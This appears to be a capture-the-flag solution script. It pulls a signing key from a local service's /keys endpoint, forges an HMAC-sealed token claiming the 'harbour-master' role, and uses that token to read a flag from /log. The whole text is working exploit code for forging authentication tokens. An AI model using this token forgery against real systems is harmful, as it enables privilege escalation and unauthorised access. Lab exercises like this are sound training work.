cat > forge.py <<'P'
import base64, hashlib, hmac, json, urllib.request
def text(value): return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=")
at = "http://127.0.0.1:8080"
key = json.load(urllib.request.urlopen(at + "/keys"))["gate-1"]
sealed = text({"seal": "mac", "key": "gate-1"}) + b"." + text({"name": "x", "role": "harbour-master", "until": 99})
seal = base64.urlsafe_b64encode(hmac.new(key.encode(), sealed, hashlib.sha256).digest()).rstrip(b"=")
log = urllib.request.urlopen(urllib.request.Request(at + "/log", headers={"Pass": (sealed + b"." + seal).decode()})).read().decode()
print(log[log.index("flag{"):log.index("}", log.index("flag{")) + 1])
P
python3 forge.py
